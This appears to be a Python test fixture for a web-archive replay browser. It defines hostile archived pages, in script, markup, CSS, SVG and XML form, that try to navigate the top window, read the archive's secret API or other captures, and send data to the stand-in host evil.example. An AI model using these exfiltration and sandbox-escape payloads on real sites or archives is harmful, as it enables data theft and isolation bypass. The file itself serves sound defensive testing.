"""Forty archived pages that try to get out, or at the library, at other captures, or at what the browser keeps.

What gets out is asked of ``http://evil.example/hit/<name>``. ``{library}`` and ``{pages}`` are the origins of the two
listeners, ``{web}`` an address in the archive up to the captured one.
"""

from __future__ import annotations

from tests.browser.sites import Site

HOST = "http://evil.example"
SECRET = "http://bank.example/statement"  # another capture

_REPORT = "const hit=(x='')=>{new Image().src='EVIL?'+encodeURIComponent(x)};"
SCRIPTS = {
    "top-location": "top.location='EVIL'",
    "parent-location": "parent.location.href='EVIL'",
    "own-location": "location='EVIL'",
    "window-open": "window.open('EVIL')",
    "click-blank": "const a=document.createElement('a');a.href='EVIL';a.target='_blank';document.body.append(a);a.click()",
    "top-document": "try{top.document.title='taken'}catch(e){}; try{parent.document.body.innerHTML=''}catch(e){}",
    "cookie": "document.cookie='taken=1;path=/'",
    "storage": "localStorage.setItem('taken','1');sessionStorage.setItem('taken','1')",
    "database": "indexedDB.open('taken')",
    "caches": "caches.open('taken')",
    "service-worker": "navigator.serviceWorker.register('WEBjs_/http://evil.example/worker.js')",
    "library-api": "fetch('LIBRARY/api/secret').then(r=>r.text()).then(hit)",
    "library-image": "new Image().src='LIBRARY/api/image'",
    "library-frame": "const f=document.createElement('iframe');f.src='LIBRARY/api/frame';document.body.append(f)",
    "other-capture": "fetch('WEB/http://bank.example/statement').then(r=>r.text()).then(hit)",
    "other-frame": "const f=document.createElement('iframe');f.src='WEB/http://bank.example/statement';"
    "f.onload=()=>hit(f.contentDocument.body.textContent);document.body.append(f)",
    "fetch": "fetch('EVIL',{mode:'no-cors'})",
    "beacon": "navigator.sendBeacon('EVIL','x')",
    "socket": "new WebSocket('ws://evil.example/hit/socket')",
    "event-source": "new EventSource('EVIL')",
    "worker": "new Worker(URL.createObjectURL(new Blob([\"fetch('EVIL',{mode:'no-cors'})\"])))",
    "form-submit": "const f=document.createElement('form');f.action='EVIL';f.target='_top';document.body.append(f);f.submit()",
    "write": "document.write('<img src=\"EVIL\">')",
    "refresh-made": "const m=document.createElement('meta');m.httpEquiv='refresh';m.content='0;url=EVIL';document.head.append(m)",
    "post-message": "parent.postMessage({go:'EVIL'},'*');opener&&opener.postMessage('x','*')",
    "base-made": "const b=document.createElement('base');b.href='http://evil.example/hit/base-made/';document.head.append(b);"
    "document.body.insertAdjacentHTML('beforeend','<img src=x>')",
}
MARKUP = {
    "images": "<img src=//evil.example/hit/images><img srcset='EVIL 1x'><image src=EVIL>"
    "<picture><source srcset=EVIL><img></picture><video poster=EVIL></video><input type=image src=EVIL>",
    "images-odd": "<img src='&#104;ttp&colon;//evil.example/hit/images-odd'><img src=' \nht\ntp:\\\\evil.example\\hit\\images-odd'>"
    "<img/src=EVIL/><img src=\"data:,x\"src=EVIL><table background='///evil.example/hit/images-odd'>",
    "refresh": "<meta http-equiv=refresh content='0;url=EVIL'>",
    "css": "<style>@import 'EVIL';body{background:u\\72l(EVIL)} p{background:image-set('EVIL' 1x)}"
    "@font-face{font-family:x;src:url(EVIL)} p{font-family:x}</style><p style='list-style:url(EVIL)'>x",
    "css-selectors": "<style>input[value^='s']{background:url(EVIL)}</style><input value=secret><p style='--x:\"EVIL\";"
    "background:image-set(var(--x) 1x)'>x",
    "frames": "<iframe src=EVIL></iframe><iframe srcdoc='<img src=EVIL>'></iframe><iframe src=\"data:text/html,<img src=EVIL>\">"
    "</iframe><object data=EVIL></object><embed src=EVIL>",
    "links": "<link rel=preconnect href=http://evil.example><link rel=dns-prefetch href=//evil.example><link rel=prefetch href=EVIL>"
    "<link rel=preload as=image href=EVIL><link rel=stylesheet href=EVIL><link rel=icon href=EVIL><link rel=manifest href=EVIL>",
    "svg-inline": "<svg><image href=EVIL /><use href='EVIL#x'/><style>rect{fill:url(EVIL#x)}</style><rect width=9 height=9 />"
    "<image><animate attributeName=href values=EVIL /></image><script>parent.location='EVIL'</script></svg>",
    "confused": "<select><style></select><img src=EVIL></style></select><svg><foreignObject><div></foreignObject><style><!-- "
    "</style><img src=EVIL>--></svg><math><annotation-xml><style><img src=EVIL>",
    "base": "<base href=http://evil.example/hit/base/><img src=x><a href=y>z</a>",
    "handlers": "<img src=data:, onerror=\"new Image().src='EVIL'\"><body onload=\"location='EVIL'\">",
    "click-top": "<a href='javascript:top.location=`EVIL`' target=_top style='position:fixed;inset:0'>x</a>",
    "click-form": "<form action=EVIL target=_top method=post><button style='position:fixed;inset:0;width:100%'>x</button></form>",
    "click-link": "<a href=EVIL target=_top ping=EVIL download style='position:fixed;inset:0'>x</a>",
}
DOCUMENTS = {
    "svg": (
        "image/svg+xml",
        "<svg xmlns='http://www.w3.org/2000/svg'><image href='EVIL'/><script>top.location='EVIL'</script></svg>",
    ),
    "xml": (
        "application/xhtml+xml",
        "<?xml-stylesheet href='EVIL' type='text/css'?><!DOCTYPE html [<!ENTITY e \"<img src='EVIL' xmlns='http://www.w3.org/1999/"
        "xhtml'/>\">]><html xmlns='http://www.w3.org/1999/xhtml'><body>&e;<script>top.location='EVIL'</script></body></html>",
    ),
    "xsl": ("text/xml", "<?xml-stylesheet href='EVIL' type='text/xsl'?><a/>"),
}
CLICKED = {name for name in MARKUP if name.startswith("click-")}
NAMES = [*SCRIPTS, *MARKUP, *DOCUMENTS]


def address(name: str) -> str:
    return f"{HOST}/page/{name}"


def fill(site: Site, *, library: str, web: str) -> None:
    """Put the pages into *site*, whose archive is at *library* and *web*."""

    def put(name: str, content_type: str, text: str) -> None:
        for mark, value in (("EVIL", f"{HOST}/hit/{name}"), ("LIBRARY", library), ("WEB", web)):
            text = text.replace(mark, value)
        site[address(name)] = (content_type, text.encode())

    for name, script in SCRIPTS.items():
        put(name, "text/html", f"<!DOCTYPE html><body><p>{name}<script>{_REPORT}{script}</script>")
    for name, markup in MARKUP.items():
        put(name, "text/html", f"<!DOCTYPE html>{markup}")
    for name, (content_type, text) in DOCUMENTS.items():
        put(name, content_type, text)
    site[SECRET] = ("text/html", b"<p>balance: 3")
    site[f"{HOST}/worker.js"] = ("text/javascript", b"self.onfetch=()=>{}")
